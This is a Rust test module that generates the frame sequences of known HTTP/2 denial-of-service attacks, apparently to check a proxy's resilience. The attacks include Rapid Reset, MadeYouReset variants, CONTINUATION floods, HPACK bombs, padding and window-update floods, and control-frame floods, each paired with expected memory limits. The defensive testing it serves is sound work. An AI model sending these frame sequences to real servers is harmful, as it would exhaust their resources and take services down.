//! The attacks on HTTP/2 that were ever named, and what a door owes each of them.

use std::net::SocketAddr;

use super::Honest;
use super::attacker::Attack;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, NEWEST, PADDED, PING, PRIORITY, SETTINGS,
    block, frame, indexed_literal, reset, setting, window_update,
};
use crate::network::until_status;

const INITIAL_WINDOW: u16 = 4;
const HEADER_TABLE_SIZE: u16 = 1;
const MAX_FRAME_SIZE: u16 = 5;

/// A window that one more byte makes too large.
const LARGEST_WINDOW: u32 = 0x7fff_ffff;

/// Streams opened by one piece of an attack.
const STREAMS: u32 = 64;

/// A named attack, made for one door.
pub(crate) struct Named<'a> {
    pub(crate) name: &'static str,
    /// Whether the door must end the connection: patience with it would be work without end.
    pub(crate) is_refused: bool,
    /// What a process may grow by meanwhile, in bytes.
    pub(crate) most_growth: u64,
    pub(crate) attack: Attack<'a>,
}

/// What says nothing but for its own bytes, or is refused before it is held: what a process takes for
/// good when it first works hard. One block of a bomb, expanded, is 62 MB.
const OF_FRAMES: u64 = 24 << 20;
/// Requests on a connection: what waits of their bodies (`connection_window`, 4 MiB) and heads
/// (`live_head_bytes`, 4 MiB) on both sides of a process, and what it takes for good when it first
/// works hard.
const OF_REQUESTS: u64 = 32 << 20;
/// A thousand answers, of each what waits before its source is held back (`pipe_bytes`, 64 KiB) and
/// what one read may add to it.
const OF_ANSWERS: u64 = 160 << 20;

impl Named<'_> {
    fn grows(self, most_growth: u64) -> Self {
        Self { most_growth, ..self }
    }
}

/// How requests through one door that are meant for a service begin.
#[derive(Clone, Copy)]
pub(crate) struct Target {
    pub(crate) authority: &'static str,
    /// What stands before the app's paths.
    pub(crate) prefix: &'static str,
    /// The service in the metadata, if neither of the others names it.
    pub(crate) app_id: Option<&'static str>,
}

impl Target {
    /// An honest request over HTTP/1.1 at `address`, once it is answered.
    pub(crate) fn honest(&self, address: SocketAddr) -> Honest {
        let Self { authority, prefix, app_id } = self;
        let app_id = app_id.map(|id| format!("dapr-app-id: {id}\r\n")).unwrap_or_default();
        let request =
            format!("GET {prefix}/size?bytes=10 HTTP/1.1\r\nhost: {authority}\r\n{app_id}\r\n");
        until_status(address, &request, 200);
        Honest::Http1(address, request)
    }

    pub(crate) fn head(&self, method: &str, path: &str) -> Vec<u8> {
        let path = format!("{}{path}", self.prefix);
        let mut lines = vec![
            (":method", method),
            (":scheme", "http"),
            (":path", &path),
            (":authority", self.authority),
        ];
        lines.extend(self.app_id.map(|id| ("dapr-app-id", id)));
        block(&lines)
    }

    fn get(&self, stream: u32, path: &str) -> Vec<u8> {
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &self.head("GET", path))
    }

    fn post(&self, stream: u32, path: &str) -> Vec<u8> {
        frame(HEADERS, END_HEADERS, stream, &self.head("POST", path))
    }
}

pub(crate) fn attacks(to: &Target) -> Vec<Named<'_>> {
    [resets(to), heads(to), bodies(to), windows(to), control(to)].into_iter().flatten().collect()
}

/// Streams that are opened only to be given up, by either side.
fn resets(to: &Target) -> Vec<Named<'_>> {
    let each = |name, stream: fn(&Target, u32) -> Vec<u8>| {
        let next = move |piece| {
            let first = 2 * STREAMS * piece + 1;
            (0..STREAMS).flat_map(|nth| stream(to, first + 2 * nth)).collect()
        };
        refused(name, Vec::new(), next)
    };
    vec![
        each("rapid reset", |to, id| [to.get(id, "/size?bytes=1000"), reset(id)].concat()),
        each("rapid reset of uploads", |to, id| [to.post(id, "/echo"), reset(id)].concat()),
        each("made you reset: window by 0", |to, id| {
            [to.post(id, "/echo"), window_update(id, 0)].concat()
        }),
        each("made you reset: window too large", |to, id| {
            [to.post(id, "/echo"), window_update(id, LARGEST_WINDOW)].concat()
        }),
        each("made you reset: data behind the end", |to, id| {
            [to.get(id, "/size?bytes=1000"), frame(DATA, 0, id, b"x")].concat()
        }),
        each("made you reset: head behind the end", |to, id| {
            [to.get(id, "/size?bytes=1000"), to.get(id, "/size?bytes=1000")].concat()
        }),
    ]
}

/// Header blocks that are large, endless, or small and say much.
fn heads(to: &Target) -> Vec<Named<'_>> {
    let endless = frame(HEADERS, 0, 1, &to.head("GET", "/size?bytes=1"));
    // The table is filled once; then a block of a few kilobytes says megabytes.
    let entry = frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        1,
        &[indexed_literal("x-bomb", &"b".repeat(3900)), to.head("GET", "/size?bytes=1")].concat(),
    );
    let bomb = move |piece: u32| {
        let lines = [to.head("GET", "/size?bytes=1"), vec![NEWEST; 16_000]].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * piece + 3, &lines)
    };
    let crumbs = move |piece: u32| {
        let crumbs = block(&[("cookie", "a")].repeat(1200));
        let lines = [to.head("GET", "/size?bytes=1"), crumbs].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, 2 * piece + 1, &lines)
    };
    // Fifteen references each, so that no head alone is too large.
    let small_bombs = move |piece: u32| {
        let lines = [to.head("GET", "/size?bytes=100000"), vec![NEWEST; 15]].concat();
        let end = END_HEADERS | END_STREAM;
        let streams = (0..STREAMS).map(|nth| 2 * (STREAMS * piece + nth) + 3);
        streams.flat_map(|id| frame(HEADERS, end, id, &lines)).collect()
    };
    let shut = frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW, 0));
    vec![
        refused("CONTINUATION without content", endless.clone(), |_| {
            frame(CONTINUATION, 0, 1, &[]).repeat(100)
        })
        .grows(OF_FRAMES),
        refused("CONTINUATION without end", endless, |_| frame(CONTINUATION, 0, 1, &[0; 16_000]))
            .grows(OF_FRAMES),
        held("HPACK bomb", entry.clone(), bomb).grows(OF_FRAMES),
        held("cookie crumbs", Vec::new(), crumbs).grows(OF_FRAMES),
        held("small HPACK bombs on streams that are held", [entry, shut].concat(), small_bombs),
    ]
}

/// Bodies of which much is frame and little or nothing is body.
fn bodies(to: &Target) -> Vec<Named<'_>> {
    let open = to.post(1, "/echo");
    let padded = [&[250, b'x'][..], &[0; 250]].concat();
    vec![
        refused("empty DATA", open.clone(), |_| frame(DATA, 0, 1, &[]).repeat(1000)),
        refused("one byte of DATA in padding", open.clone(), move |_| {
            frame(DATA, PADDED, 1, &padded).repeat(60)
        }),
        held("one byte of DATA in each frame", open, |_| frame(DATA, 0, 1, b"x").repeat(1600)),
    ]
}

/// Answers that are asked for and not taken.
fn windows(to: &Target) -> Vec<Named<'_>> {
    let shut = frame(SETTINGS, 0, 0, &setting(INITIAL_WINDOW, 0));
    let thousand = |path: &'static str| {
        move |piece: u32| {
            let streams = if piece == 0 { 0..1000 } else { 0..0 };
            streams.flat_map(|nth| to.get(2 * nth + 1, path)).collect()
        }
    };
    let sip = |piece: u32| {
        if piece == 0 {
            return Vec::new();
        }
        (0..1000).flat_map(|nth| window_update(2 * nth + 1, 1)).collect()
    };
    let opened = [shut.clone(), thousand("/size?bytes=100000")(0)].concat();
    vec![
        held("window 0 on 1,000 streams", shut, thousand("/size?bytes=1000000")).grows(OF_ANSWERS),
        // The streams may send all they want, the connection is never read.
        held("1,000 answers not read", Vec::new(), thousand("/size?bytes=1000000"))
            .grows(OF_ANSWERS),
        refused("windows opened by single bytes", opened, sip).grows(OF_ANSWERS),
        refused("the connection's window by single bytes", Vec::new(), |_| {
            window_update(0, 1).repeat(1000)
        }),
    ]
}

/// Frames that do nothing.
fn control(to: &Target) -> Vec<Named<'_>> {
    let flood = |name, frame: Vec<u8>| {
        refused(name, Vec::new(), move |_| frame.repeat(500)).grows(OF_FRAMES)
    };
    let streams = (0..100).flat_map(|nth| to.post(2 * nth + 1, "/echo")).collect();
    let churn: Vec<u8> = (0..1000)
        .flat_map(|nth| setting(HEADER_TABLE_SIZE, nth % 2 * 4096))
        .chain(setting(MAX_FRAME_SIZE, 16_384))
        .collect();
    let shifts: Vec<u8> = (0..1000).flat_map(|nth| setting(INITIAL_WINDOW, nth % 2)).collect();
    vec![
        flood("PING", frame(PING, 0, 0, &[0; 8])),
        flood("SETTINGS", frame(SETTINGS, 0, 0, &[])),
        flood("PRIORITY", frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 0])),
        flood("unknown frames", frame(0xbe, 0, 0, b"x")),
        refused("table sizes", Vec::new(), move |_| frame(SETTINGS, 0, 0, &churn)).grows(OF_FRAMES),
        refused("window sizes of 100 streams", streams, move |_| frame(SETTINGS, 0, 0, &shifts)),
    ]
}

fn refused<'a>(
    name: &'static str,
    opening: Vec<u8>,
    next: impl Fn(u32) -> Vec<u8> + Send + Sync + 'a,
) -> Named<'a> {
    let attack = Attack { opening, next: Box::new(next) };
    Named { name, is_refused: true, most_growth: OF_REQUESTS, attack }
}

/// What no rule forbids, and what must be borne within limits.
fn held<'a>(
    name: &'static str,
    opening: Vec<u8>,
    next: impl Fn(u32) -> Vec<u8> + Send + Sync + 'a,
) -> Named<'a> {
    Named { is_refused: false, ..refused(name, opening, next) }
}
